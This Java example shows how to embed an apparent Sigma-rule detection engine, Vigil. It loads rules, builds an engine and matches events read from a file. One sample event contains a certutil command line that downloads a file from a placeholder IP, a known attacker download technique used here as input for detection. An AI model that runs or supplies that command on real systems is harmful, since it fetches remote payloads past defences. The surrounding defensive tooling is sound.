package dev.vigil.examples;

import dev.vigil.core.alert.Detection;
import dev.vigil.core.event.Event;
import dev.vigil.core.event.read.EventReader;
import dev.vigil.core.match.Engine;
import dev.vigil.sigma.LoadResult;
import dev.vigil.sigma.SigmaLoader;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * Embedding Vigil in a few calls: load Sigma rules, build an engine, match events built in code and
 * read from a file.
 *
 * <p>Run from the repository root, after {@code ./mvnw -q -DskipTests package}:
 * <pre>{@code
 * java -cp examples/target/classes:cli/target/vigil.jar dev.vigil.examples.EmbeddingExample
 * }</pre>
 * or with arguments {@code RULES_FOLDER EVENTS_FILE} (defaults: {@code examples/rules},
 * {@code examples/events/sample.jsonl}).
 */
public final class EmbeddingExample {

    private EmbeddingExample() {
    }

    public static void main(String[] args) throws IOException {
        Path base = Files.isDirectory(Path.of("examples/rules")) ? Path.of("examples") : Path.of(".");
        Path rules = args.length > 0 ? Path.of(args[0]) : base.resolve("rules");
        Path events = args.length > 1 ? Path.of(args[1]) : base.resolve("events/sample.jsonl");
        for (Detection d : detect(rules, events)) {
            System.out.printf("%-8s  %-48s  %s%n", d.rule().level() == null ? "-" : d.rule().level().label(),
                    d.rule().title(), d.source().file() == null ? "(event built in code)" : d.source());
        }
    }

    /** Every detection of the rules under {@code rules} on one event built here and on the events of {@code events}. */
    static List<Detection> detect(Path rules, Path events) throws IOException {
        // 1. Load and compile the rules; a rule that does not compile is reported, not thrown.
        LoadResult loaded = SigmaLoader.builder().build().load(List.of(rules));
        loaded.problems().forEach(p -> System.err.println(p));

        // 2. Build the engine once; it is immutable and thread-safe.
        Engine engine = Engine.builder().addRules(loaded.rules()).build();

        // 3. Match an event built in code ...
        List<Detection> detections = new ArrayList<>(engine.match(Event.of(Map.of(
                "EventID", 1,
                "Channel", "Microsoft-Windows-Sysmon/Operational",
                "Image", "C:\\Windows\\System32\\certutil.exe",
                "CommandLine", "certutil -urlcache -f http://192.0.2.10/a.txt a.txt"))));

        // 4. ... and the events of a file (JSON Lines, a JSON array or evtx_dump output, gzipped or not).
        try (EventReader reader = EventReader.builder().open(events)) {
            for (Event event : reader) {
                detections.addAll(engine.match(event));
            }
            reader.problems().forEach(p -> System.err.println(p));
        }
        return detections;
    }
}
